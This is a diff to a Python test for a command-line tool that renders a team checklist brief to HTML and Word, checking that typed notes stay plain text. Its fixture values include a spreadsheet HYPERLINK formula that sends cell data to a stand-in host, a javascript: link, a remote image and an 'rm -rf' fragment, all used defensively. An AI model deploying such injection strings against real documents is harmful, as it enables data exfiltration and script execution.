@@ -277,9 +277,9 @@ def test_brief_names_the_bibtex_file_it_writes_whatever_its_name(tmp_path: Path)
 
 
 def test_brief_shows_the_teams_checklist_state_and_ticks_only_what_is_done(tmp_path: Path) -> None:
-    """`--state` (a version 2 file with hostile text): each item carries its status, reason and owner;
-    only the done item is ticked, in HTML and in Word; an accepted risk has no box at all; the
-    reason and owner read as typed (no link, no citation)."""
+    """`--state` (a version 2 file with hostile text): each item carries its status, reason, owner, note
+    and evidence; only the done item is ticked, in HTML and in Word; an accepted risk has no box at all;
+    what the team typed reads as typed (no link, no image, no code, no citation)."""
     result = CliRunner().invoke(main, ["brief", "--catalog", str(VALID), "--out", str(tmp_path / "brief.md"),
                                        "--state", str(HERE / "states" / "team.json"), "--challenge", "data-discovery",
                                        "--challenge", "data-profiling", "--challenge", "feedback-loops"])
@@ -288,13 +288,16 @@ def test_brief_shows_the_teams_checklist_state_and_ticks_only_what_is_done(tmp_p
     assert html.returncode == 0 and "WARNING" not in html.stderr, html.stderr
     items = {re.search(r"<code>([a-z-]+)</code>", li).group(1): li
              for li in re.findall(r"<li>(.*?)</li>", html.stdout, re.DOTALL) if "<code>" in li}
-    assert "checked" in items["data-discovery-source-owners"] and "(done; owner: Ana)" in items[
-        "data-discovery-source-owners"]
+    assert "checked" in items["data-discovery-source-owners"] and (
+        '(done; owner: Ana; note: =HYPERLINK("http://x.example/?"&amp;A1,"go"); '
+        "evidence: https://git.example.org/team/model/pull/12)") in items["data-discovery-source-owners"]
     risk = items["data-discovery-catalogue"]
     assert "checkbox" not in risk, "an accepted risk is neither ticked nor an open box"
     assert "(accepted risk: One source system [see](javascript:alert(1)); owner: @raj)" in risk, "as typed"
-    assert "<input type=\"checkbox\" />" in items["data-profiling-report"] and "(in progress; owner: -Kim)" in items[
-        "data-profiling-report"]
+    assert "<input type=\"checkbox\" />" in items["data-profiling-report"] and (
+        "(in progress; owner: -Kim; note: ![x](http://x.example/p.png) `rm -rf`)") in items["data-profiling-report"]
+    assert "<img" not in html.stdout and "<code>rm" not in html.stdout, "a note is text, not an image or code"
+    assert 'href="https://git.example.org' not in html.stdout and 'href="http://x.example' not in html.stdout
     assert "(open; owner: Raj)" in items["feedback-loops-holdout"] and "checked" not in items["feedback-loops-holdout"]
     assert html.stdout.count("checked") == 1
     assert pandoc(tmp_path, "-o", "brief.docx").returncode == 0
